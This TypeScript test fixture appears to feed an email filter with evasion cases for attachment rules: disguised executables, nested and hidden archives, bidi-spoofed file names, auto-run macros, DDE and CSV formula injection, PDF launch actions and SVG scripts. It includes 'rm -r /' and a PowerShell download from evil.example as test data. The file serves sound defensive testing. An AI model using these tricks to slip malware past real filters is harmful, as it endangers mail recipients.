// Tricks against the rules about attachments: dangerous files under other names, in other wraps, and said in other words.
import { cabinet, diskImage, rar5, sevenZip, tar } from '../../../wasm-core/files/archives.ts';
import {
	boundSheet,
	compound,
	macroDocument,
	officeDocument,
	oneNote,
	pdf,
	relationship,
} from '../../../wasm-core/files/documents.ts';
import { join, latin1, PROGRAM, padded } from '../../../wasm-core/files/octets.ts';
import { type ZipEntry, zip } from '../../../wasm-core/files/zip.ts';
import { encoded, file, type Letter, type Tricks } from '../letter';

// In pieces: a virus scanner of whoever has this file shall have nothing to say.
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-');
const GTUBE = ['XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE', 'STANDARD', 'ANTI', 'UBE-TEST-EMAIL*C.34X'].join('-');

/** By its fields alone. */
const fielded = (fields: string, octets: Uint8Array | string = 'x'): Letter => ({ files: [{ fields, octets }] });
const disposed = (parameters: string, octets?: Uint8Array | string) =>
	fielded(`Content-Disposition: attachment; ${parameters}`, octets);
const zipped = (...entries: ZipEntry[]) => file('a.zip', zip(entries));
const office = (...parts: ZipEntry[]) => file('a.docx', officeDocument(parts));
const old = (name: string) => file('a.doc', compound([{ name }]));
const macros = (source: string) => file('a.doc', macroDocument(source));
const portable = (...objects: string[]) => file('a.pdf', pdf(objects));
const packed = (...objects: string[]) => file('a.pdf', pdf(['<< >>'], objects));
const picture = (svg: string) => file('a.svg', svg);
const telling = (words: string): Letter => ({
	...file('a.zip', zip([{ name: 'a.txt', data: 'x', encrypted: true }])),
	text: words,
});
const program: ZipEntry = { name: 'a.exe', data: PROGRAM };
const harmless = Array.from({ length: 30 }, (_, at) => ({ name: `${at}.txt`, data: 'x' }));
const LONG = "' A comment that says nothing much, so that the module is a long one.\r\n".repeat(80);

export const ATTACHMENTS: Tricks = {
	gtube: [
		[
			'cut by quoted-printable',
			{
				raw: `Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${GTUBE.slice(0, 20)}=\r\n${GTUBE.slice(20)}\r\n`,
			},
		],
		['in base64', { raw: `Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n${btoa(GTUBE)}\r\n` }],
	],
	eicar: [
		['under another name', file('a.txt', EICAR)],
		['in an archive in an archive', zipped({ name: 'b.zip', data: zip([{ name: 'c', data: EICAR }]) })],
		['in an archive of another kind', file('a.tar', tar([{ name: 'b', data: Buffer.from(EICAR) }]))],
	],
	'dangerous-attachment': [
		['a picture’s name', file('holiday.jpg', PROGRAM)],
		['no name', fielded('Content-Type: image/png', PROGRAM)],
		['shown inline', fielded('Content-Type: image/png\r\nContent-Disposition: inline', PROGRAM)],
		['as text', fielded('Content-Type: text/plain; name=a.txt', PROGRAM)],
		['a disk image', file('a.pdf', diskImage(['A.TXT;1']))],
	],
	'script-attachment': [
		['a text’s name', file('a.txt', '#!/bin/sh\nrm -r /\n')],
		['a document’s name', file('a.doc', '$d = (New-Object Net.WebClient).DownloadString("http://evil.example")')],
	],
	'dangerous-file-name': [
		['dots and blanks after it', disposed('filename="a.exe. . "')],
		['RFC 2231', disposed("filename*=utf-8''a%2Eexe")],
		['in pieces', disposed('filename*0="a.e"; filename*1="xe"')],
		['encoded', disposed(`filename="${encoded('a.exe')}"`)],
		['of the type alone', fielded('Content-Type: application/pdf; name="a.ExE"')],
		[
			'two names, one harmless',
			fielded('Content-Type: application/pdf; name="a.pdf"\r\nContent-Disposition: attachment; filename="a.exe"'),
		],
	],
	'disguised-file-name': [
		['blanks before the true ending', file(`a.pdf${' '.repeat(80)}.exe`, 'x')],
		['turned around', disposed("filename*=utf-8''a%E2%80%AEfdp.exe")],
		['turned around by an isolate', disposed("filename*=utf-8''a%E2%81%A7fdp.exe")],
		['in an archive', zipped({ name: 'a.pdf.exe', data: 'x' })],
	],
	'archived-program': [
		['a picture’s name inside', zipped({ name: 'a.jpg', data: PROGRAM })],
		['a name alone', zipped({ name: 'a.scr ', data: 'x' })],
		['among many', zipped(...harmless, program)],
		['two archives deep', zipped({ name: 'b.zip', data: zip([program]) })],
		['stored', zipped({ ...program, stored: true })],
		['written as a stream', zipped({ ...program, streamed: true })],
		['locked', zipped({ ...program, encrypted: true })],
		['in a TAR', file('a.pdf', tar([program as { name: string; data: Buffer }]))],
		['in a RAR', file('a.rar', rar5([program as { name: string; data: Buffer }]))],
		['in a 7z', file('a.7z', sevenZip(['a.exe']))],
		['in a cabinet', file('a.cab', cabinet([{ name: 'a.exe' }]))],
		['listed under another name', zipped({ name: 'b.txt', data: 'x' }, { ...program, listedAs: 'a.txt' })],
	],
	'archived-script': [
		['a text’s name inside', zipped({ name: 'a.txt', data: '#!/bin/sh\nrm -r /\n' })],
		['a name alone, and a dot', zipped({ name: 'Doc.JS .', data: 'x' })],
		['two archives deep', zipped({ name: 'b.zip', data: zip([{ name: 'a.vbs', data: 'x' }]) })],
	],
	'archived-alone': [
		['beside a text', zipped(program, { name: 'read me.txt', data: 'x' })],
		['in an archive in an archive', zipped({ name: 'b.zip', data: zip([program]) })],
	],
	'rare-archive': [['a document’s name', file('a.doc', latin1('\x00\x00\x31\x00\x00\x00\x90**ACE**'))]],
	'encrypted-attachment': [
		['one file of two', zipped({ name: 'a.txt', data: 'x' }, { name: 'b.txt', data: 'x', encrypted: true })],
		['its names as well', file('a.rar', rar5([{ name: 'a.txt' }], { encryptedHeaders: true }))],
		['by Office', old('EncryptedPackage')],
	],
	'encrypted-with-password': [
		['in a page', { ...telling(''), raw: 'Content-Type: text/html\r\n\r\n<p>Pass<b>word</b>: 4711</p>\r\n' }],
		['after an equals sign', telling('PWD=4711')],
		['in words', telling('Dear Ann, the archive password is invoice2026.')],
		['in Portuguese', telling('A senha é: 4711')],
		['with a full-width colon', telling('パスワード：4711')],
	],
	'archive-bomb': [['a file that is said to be large', zipped({ name: 'a', data: 'x', size: 400_000_000 })]],
	'archive-mismatch': [
		['not listed', zipped({ name: 'b.txt', data: 'x' }, { ...program, only: 'local' })],
		['two in a row', file('a.zip', join(zip([{ name: 'a.txt', data: 'x' }]), zip([program])))],
		['another count', file('a.zip', zip([{ name: 'a', data: 'x' }], { told: 7 }))],
	],
	'hidden-archive': [
		['behind a picture', file('a.gif', join(latin1('GIF89a'), Buffer.alloc(800, 3), zip([program])))],
		['behind noise', file('a.bin', join(Buffer.alloc(700, 1), zip([program])))],
	],
	'deep-nesting': [
		[
			'four',
			file(
				'a.zip',
				[1, 2, 3].reduce((inner, at) => zip([{ name: `${at}.zip`, data: inner }]), zip([program])),
			),
		],
	],
	'path-traversal': [
		['backslashes', zipped({ name: '..\\..\\a.txt', data: 'x' })],
		['within', zipped({ name: 'a/../../b.txt', data: 'x' })],
	],
	macro: [
		['under another name', office({ name: 'word/picture.bin', data: macroDocument('Sub X()') })],
		['an ending without macros', file('a.docx', macroDocument('Sub X()'))],
	],
	'macro-auto-run': [
		['capitals', macros(`${LONG}SUB AUTOOPEN()`)],
		['small letters', macros(`${LONG}sub document_open()`)],
		['when it is closed', macros(`${LONG}Sub Auto_Close()`)],
		['when it is closed, of Word', macros(`${LONG}Sub Document_Close()`)],
		['a workbook’s', macros(`${LONG}Private Sub Workbook_Open()`)],
	],
	'macro-commands': [
		['capitals', macros(`${LONG}CREATEOBJECT("WSCRIPT.SHELL")`)],
		['put together', macros(`${LONG}CreateObject("WScr" & "ipt.Shell")`)],
		['PowerShell', macros(`${LONG}x = "PoWeRsHeLl -enc"`)],
		['by the system’s own call', macros(`${LONG}Declare Function U Lib "urlmon" Alias "URLDownloadToFileA"`)],
		['management', macros(`${LONG}GetObject("winmgmts:")`)],
	],
	'xlm-macro': [
		['in the old format', file('a.xls', compound([{ name: 'Workbook', data: padded(boundSheet(1), 4096) }]))],
		['capitals', office({ name: 'XL/MACROSHEETS/SHEET1.XML', data: 'x' })],
	],
	'external-template': [
		['a share', office(relationship('attachedTemplate', '\\\\evil.example\\a.dotm'))],
		['as RTF', file('a.doc', '{\\rtf1{\\*\\template http://evil.example/a.dotm}}')],
	],
	'external-object': [
		['another scheme', office(relationship('oleObject', 'mhtml:https://evil.example/a'))],
		['a frame', office(relationship('frame', 'https://evil.example/a.html'))],
	],
	activex: [['capitals', office({ name: 'WORD/ACTIVEX/ACTIVEX1.BIN', data: 'x' })]],
	dde: [
		[
			'small letters',
			office({ name: 'word/footer1.xml', data: '<?xml version="1.0"?><w:instrText>ddeauto c:\\x</w:instrText>' }),
		],
		[
			'as an attribute',
			office({ name: 'word/footer1.xml', data: '<?xml version="1.0"?><w:fldSimple w:instr="DDEAUTO c:\\x"/>' }),
		],
		['a table of plain text', file('a.csv', 'name,total\n"a",=cmd|\' /C calc\'!A0')],
		['with another sign', file('a.csv', 'name,total\n"a",+cmd|\' /C calc\'!A0')],
	],
	'packaged-file': [
		['in an office document', office({ name: 'word/embeddings/o.bin', data: compound([{ name: '\x01Ole10Native' }]) })],
	],
	equation: [
		['small letters', file('a.doc', '{\\rt{\\*\\objclass equation.3}}')],
		['in an office document', office({ name: 'xl/embeddings/o.bin', data: compound([{ name: 'Equation Native' }]) })],
	],
	'rtf-object': [
		['a document’s name, its head cut short', file('a.doc', '{\\rt{\\object\\objemb{\\*\\objdata 0105}}}')],
		['blanks before it', file('a.rtf', '  \r\n{\\rtf1{\\object\\objemb{\\*\\objdata 01}}}')],
	],
	'rtf-auto-update': [
		['its head cut short', file('a.doc', '{\\rt{\\object\\objautlink\\objupdate}}')],
		['digits and ends after it', file('a.doc', '{\\rtf1{\\object\\objupdate1\r\n}}')],
	],
	'onenote-file': [['another name', file('a.pdf', oneNote([PROGRAM]))]],
	'pdf-launch': [
		['escapes', portable('<< /S /L#61unc#68 /F (cmd.exe) >>')],
		['in an object stream', packed('<< /S/Launch/F(cmd.exe)>>')],
	],
	'pdf-javascript': [
		['escapes', portable('<< /S /J#61vaScr#69pt /JS (x) >>')],
		['in an object stream', packed('<< /S /JavaScript /JS (x) >>')],
		['another name of file', file('a.txt', pdf(['<< /S /JavaScript >>']))],
		['noise before it', file('a.pdf', join(latin1('\r\n\r\n'), pdf(['<< /S /JavaScript >>'])))],
	],
	'pdf-auto-run': [
		['escapes', portable('<< /Open#41ction 5 0 R >>', '<< /S /JavaScript >>')],
		['when a page is shown', packed('<< /A#41 << /O 5 0 R >> >>', '<< /S /JavaScript >>')],
	],
	'pdf-submit-form': [['escapes', portable('<< /S /Submit#46orm >>')]],
	'script-in-picture': [
		['a handler', picture('<?xml version="1.0"?>\n<!-- drawn -->\n<svg onload="x()"/>')],
		['a handler after a slash', picture('<svg/onload=x()>')],
		['capitals', picture('<svg xmlns="http://www.w3.org/2000/svg"><SCRIPT>x()</SCRIPT></svg>')],
		['in a link', picture('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:x()">y</a></svg>')],
		[
			'a page within',
			picture(
				'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="x()"/></foreignObject></svg>',
			),
		],
		['another name', file('a.txt', '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>')],
	],
	'content-contradicts-name': [
		['blanks before the page', file('a.pdf', ' \r\n\r\n<!doctype html><p>x</p>')],
		['capitals', file('A.PDF', '<HTML><p>x</p>')],
		['a blank after the name', file('a.docx ', '<html><p>x</p>')],
	],
};
